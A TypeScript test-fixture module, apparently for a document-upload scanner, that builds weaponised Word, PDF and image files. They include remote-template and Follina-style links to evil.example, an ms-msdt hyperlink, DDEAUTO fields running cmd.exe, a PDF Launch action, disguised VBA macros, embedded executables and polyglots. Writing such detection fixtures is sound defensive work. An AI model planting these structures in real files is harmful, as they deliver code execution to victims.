/**
 * Weaponised and broken files, generated in code (never downloaded samples): each builds the exact
 * structure a real attack uses, on top of the benign fixtures of test-fixtures.ts. Tests only.
 */
import { deflateSync } from 'node:zlib'
import { utils as cfbUtils, write as writeCfb } from 'cfb'
import { strToU8, zipSync } from 'fflate'
import { gif, jpeg, pdf, pe, png, zip } from './test-fixtures'

const u8 = (text: string): Uint8Array => Buffer.from(text, 'latin1')
const concat = (...parts: Uint8Array[]): Uint8Array => Uint8Array.from(Buffer.concat(parts))

// ---------- Word (docx) ----------
const CT_NS = 'http://schemas.openxmlformats.org/package/2006/content-types'
const REL_NS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const W_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'

interface DocxParts {
  body?: string
  documentRels?: string
  parts?: Record<string, Uint8Array | string>
  types?: string
}

/** A Word package whose document body, document relationships, extra parts and types are given. */
export function docxWith(options: DocxParts): Uint8Array {
  const body = options.body ?? '<w:p><w:r><w:t>Facture</w:t></w:r></w:p>'
  const files: Record<string, Uint8Array> = {
    '[Content_Types].xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="${CT_NS}">` +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        `<Override PartName="/word/document.xml" ContentType="${MAIN}"/>${options.types ?? ''}</Types>`,
    ),
    '_rels/.rels': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${REL_NS}">` +
        `<Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`,
    ),
    'word/document.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${W_NS}" xmlns:r="${R}"><w:body>${body}</w:body></w:document>`,
    ),
  }
  if (options.documentRels) {
    files['word/_rels/document.xml.rels'] = strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${REL_NS}">${options.documentRels}</Relationships>`,
    )
  }
  for (const [name, content] of Object.entries(options.parts ?? {}))
    files[name] = typeof content === 'string' ? strToU8(content) : content
  return zipSync(files, { level: 6 })
}

const rel = (id: string, type: string, target: string, external = false) =>
  `<Relationship Id="${id}" Type="${R}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`

/** An OLE compound file with the given streams. */
function ole(streams: Record<string, Uint8Array>): Uint8Array {
  const container = cfbUtils.cfb_new()
  for (const [name, content] of Object.entries(streams)) cfbUtils.cfb_add(container, name, content)
  return Uint8Array.from(writeCfb(container, { type: 'buffer' }) as Uint8Array)
}

/** A VBA project under made-up storage names: found by its bytes (`_VBA_PROJECT` header, module source). */
const vbaStreams = (root: string): Record<string, Uint8Array> => ({
  [`${root}/Qx/Zz1`]: Uint8Array.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]),
  [`${root}/Qx/Mm`]: concat(
    Uint8Array.from([0x01, 0x19, 0xb0, 0x00]),
    u8('Attribut\u0000e VB_Nam\u0000e = "M"'),
  ),
})

/** An OLE1 "Package" object wrapping a Windows program, as Word embeds a dropped file. */
const packagedProgram = () =>
  ole({ '/\u0001Ole10Native': concat(u8('\u0002\u0000setup.exe\u0000C:\\setup.exe\u0000'), pe()) })

export const word = {
  remoteTemplate: () =>
    docxWith({
      parts: {
        'word/settings.xml': `<w:settings xmlns:w="${W_NS}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
        'word/_rels/settings.xml.rels': `<Relationships xmlns="${REL_NS}">${rel('rId1', 'attachedTemplate', 'https://evil.example/t.dotm', true)}</Relationships>`,
      },
      documentRels: rel('rId9', 'settings', 'settings.xml'),
    }),
  follina: () =>
    docxWith({
      documentRels: rel(
        'rId9',
        'oleObject',
        'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html',
        true,
      ),
    }),
  msdtLink: () =>
    docxWith({
      body: '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>Suivi</w:t></w:r></w:hyperlink></w:p>',
      documentRels: rel('rId9', 'hyperlink', 'ms-msdt:/id PCWDiagnostic /skip force', true),
    }),
  webLink: () =>
    docxWith({
      body: '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>Suivi</w:t></w:r></w:hyperlink></w:p>',
      documentRels: rel('rId9', 'hyperlink', 'https://www.laposte.fr/outils/suivre-vos-envois', true),
    }),
  ddeSimple: () =>
    docxWith({
      body: `<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '/></w:p>`,
    }),
  /** The field in a footer part, outside word/ (parts live wherever their relationships say). */
  ddeElsewhere: () =>
    docxWith({
      parts: {
        'contenu/pied.xml': `<w:ftr xmlns:w="${W_NS}"><w:p><w:fldSimple w:instr="DDE cmd &quot;/c calc&quot; x"/></w:p></w:ftr>`,
      },
      documentRels: rel('rId9', 'footer', '../contenu/pied.xml'),
    }),
  ddeSplit: () =>
    docxWith({
      body:
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>' +
        '<w:r><w:instrText>E cmd "/c calc" x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    }),
  embeddedProgram: () =>
    docxWith({
      documentRels: rel('rId9', 'oleObject', 'embeddings/oleObject1.bin'),
      parts: { 'word/embeddings/oleObject1.bin': packagedProgram() },
      types:
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    }),
  embeddedPackage: () =>
    docxWith({
      documentRels: rel('rId9', 'package', 'embeddings/facture.exe'),
      parts: { 'word/embeddings/facture.exe': pe() },
      types: '<Default Extension="exe" ContentType="application/vnd.openxmlformats-officedocument.package"/>',
    }),
  altChunk: () =>
    docxWith({
      body: '<w:altChunk r:id="rId9"/>',
      documentRels: rel('rId9', 'aFChunk', 'afchunk.mht'),
      parts: {
        'word/afchunk.mht':
          'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><script>x</script></html>',
      },
      types: '<Default Extension="mht" ContentType="message/rfc822"/>',
    }),
  vbaByContentType: () =>
    docxWith({
      parts: { 'word/donnees.dat': Uint8Array.from([1, 2, 3, 4]) },
      types: '<Override PartName="/word/donnees.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
    }),
  vbaByBytes: () => docxWith({ parts: { 'word/media/image9.png': ole(vbaStreams('/Root')) } }),
}

/** .doc files: macros under renamed storages, a DDE field, an embedded packaged program. */
export const binaryWord = {
  renamedMacros: () => withStreams(vbaStreams('/Donnees')),
  dde: () => {
    const container = readDoc()
    const fib = container.stream
    const text = u8('\u0013 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" \u0014\u0015')
    return withStreams({ '/WordDocument': concat(fib, text) })
  },
  embeddedProgram: () =>
    withStreams({ '/ObjectPool/_1234/\u0001Ole10Native': concat(u8('\u0002\u0000'), pe()) }),
}

function readDoc() {
  // The FIB of the benign fixture, re-used as the start of a WordDocument stream.
  const fib = new Uint8Array(1472)
  fib.set([0xec, 0xa5, 0xc1, 0x00, 0, 0, 0x0c, 0x04, 0, 0])
  fib.set([0x00, 0x12], 10)
  return { stream: fib }
}

function withStreams(streams: Record<string, Uint8Array>): Uint8Array {
  const container = cfbUtils.cfb_new()
  const base = readDoc()
  cfbUtils.cfb_add(container, '/WordDocument', streams['/WordDocument'] ?? base.stream)
  cfbUtils.cfb_add(container, '/1Table', new Uint8Array(512))
  for (const [name, content] of Object.entries(streams))
    if (name !== '/WordDocument') cfbUtils.cfb_add(container, name, content)
  return Uint8Array.from(writeCfb(container, { type: 'buffer' }) as Uint8Array)
}

// ---------- PDF ----------
/** A one-page PDF with extra catalog/page entries and extra objects (6, 7, …); `raw` objects are bytes. */
export function pdfWith(options: {
  catalog?: string
  page?: string
  objects?: Array<string | Uint8Array>
}): Uint8Array {
  const content = 'BT /F1 18 Tf 20 40 Td (Facture 42) Tj ET'
  const objects: Array<string | Uint8Array> = [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${options.page ?? ''}>>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...(options.objects ?? []),
  ]
  const parts: Uint8Array[] = [u8('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n')]
  let length = parts[0]!.byteLength
  const offsets: number[] = []
  objects.forEach((body, index) => {
    offsets.push(length)
    const chunk = concat(
      u8(`${index + 1} 0 obj\n`),
      typeof body === 'string' ? u8(body) : body,
      u8('\nendobj\n'),
    )
    parts.push(chunk)
    length += chunk.byteLength
  })
  let tail = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const offset of offsets) tail += `${String(offset).padStart(10, '0')} 00000 n \n`
  tail += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`
  parts.push(u8(tail))
  return concat(...parts)
}

/** An object stream (/ObjStm, FlateDecode) holding `inner` as object 99. */
function objectStream(inner: string): Uint8Array {
  const header = '99 0 '
  const packed = deflateSync(u8(header + inner))
  return concat(
    u8(
      `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${packed.byteLength} >>\nstream\n`,
    ),
    packed,
    u8('\nendstream'),
  )
}

export const pdfs = {
  javascript: () =>
    pdfWith({ catalog: '/OpenAction 6 0 R', objects: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'] }),
  escapedJavascript: () =>
    pdfWith({
      catalog: '/Names << /J#61vaScript 6 0 R >>',
      objects: ['<< /Names [(a) 7 0 R] >>', '<< /S /J#61vaScript /J#53 (x) >>'],
    }),
  /** Opens a web page as soon as the PDF is opened. */
  openAction: () =>
    pdfWith({ catalog: '/OpenAction 6 0 R', objects: ['<< /S /URI /URI (https://evil.example/) >>'] }),
  /** What LaTeX (hyperref) and many tools write: open at page 1, fit to the window. Harmless. */
  openAtPage: () => pdfWith({ catalog: '/OpenAction [3 0 R /Fit]' }),
  /** The same, as pdfTeX writes it: the destination in an object of its own, or packed in an object stream. */
  openAtPageReferenced: () => pdfWith({ catalog: '/OpenAction 6 0 R', objects: ['[3 0 R /Fit]'] }),
  openAtPagePacked: () =>
    pdfWith({ catalog: '/OpenAction 99 0 R', objects: [objectStream('<< /S /GoTo /D [3 0 R /Fit] >>')] }),
  /** A go-to that chains another action: refused like any action. */
  goToThenUri: () =>
    pdfWith({
      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>',
    }),
  /** A big image stream whose bytes happen to spell names like /JS and /AA: not PDF syntax. */
  binaryImage: () =>
    pdfWith({
      page: '/Resources << /XObject << /Im1 6 0 R >> >>',
      objects: [
        concat(
          u8(
            '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode /Length 40 >>\nstream\n',
          ),
          u8('\u0001/JS /AA /Launch\u0000/OpenAction (x)\u00ff\u00fe/XFA\u0002'),
          u8('\nendstream'),
        ),
      ],
    }),
  additionalActions: () => pdfWith({ page: '/AA << /O 6 0 R >>', objects: ['<< /S /Named /N /NextPage >>'] }),
  launch: () => pdfWith({ catalog: '/OpenAction 6 0 R', objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
  embeddedProgram: () =>
    pdfWith({
      catalog: '/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>',
        concat(u8(`<< /Type /EmbeddedFile /Length ${pe().byteLength} >>\nstream\n`), pe(), u8('\nendstream')),
      ],
    }),
  embeddedText: () =>
    pdfWith({
      catalog: '/Names << /EmbeddedFiles << /Names [(notes.txt) 6 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (notes.txt) /EF << /F 7 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream',
      ],
    }),
  richMedia: () =>
    pdfWith({
      page: '/Annots [6 0 R]',
      objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'],
    }),
  xfa: () =>
    pdfWith({
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      objects: ['<< /Length 0 >>\nstream\n\nendstream'],
    }),
  javascriptInObjectStream: () =>
    pdfWith({
      catalog: '/OpenAction 99 0 R',
      objects: [objectStream('<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>')],
    }),
  headerOnly: () => u8('%PDF-1.7\n'),
  noEof: () => {
    const whole = pdf()
    return whole.subarray(0, whole.byteLength - '%%EOF\n'.length)
  },
  noBody: () => u8('%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n%%EOF\n'),
  withZip: () => concat(pdf(), zip()),
  withHtml: () =>
    pdfWith({
      objects: ['<< /Length 52 >>\nstream\n<html><body><script>alert(1)</script></body></html>\nendstream'],
    }),
}

// ---------- Images ----------
function replaceSof(bytes: Uint8Array): Uint8Array {
  const out = Uint8Array.from(bytes)
  for (let i = 2; i < out.length - 1; i++) {
    if (out[i] === 0xff && out[i + 1] === 0xc0) {
      out[i + 9] = 0 // component count 0: no image can be decoded
      return out
    }
  }
  throw new Error('no SOF0')
}

const pngWithBadIhdrCrc = () => {
  const bytes = Uint8Array.from(png())
  bytes[29] = (bytes[29]! + 1) & 255 // first byte of the IHDR CRC
  return bytes
}

export const images = {
  jpegNoEoi: () => jpeg().subarray(0, jpeg().byteLength - 2),
  jpegBrokenSof: () => replaceSof(jpeg()),
  jpegZip: () => concat(jpeg(), zip()),
  jpegExe: () => concat(jpeg(), pe()),
  pngNoIend: () => png().subarray(0, png().byteLength - 12),
  pngBadIhdrCrc: pngWithBadIhdrCrc,
  pngHtml: () => concat(png(), u8('<html><script>alert(1)</script></html>')),
  gifNoTrailer: () => gif().subarray(0, gif().byteLength - 1),
  /** GIF89a whose header reads as JavaScript: width bytes open a comment, text after the trailer closes it. */
  gifJs: () => {
    const bytes = Uint8Array.from(gif())
    bytes.set(u8('/*'), 6)
    return concat(bytes, u8('*/=alert(1)//'))
  },
}
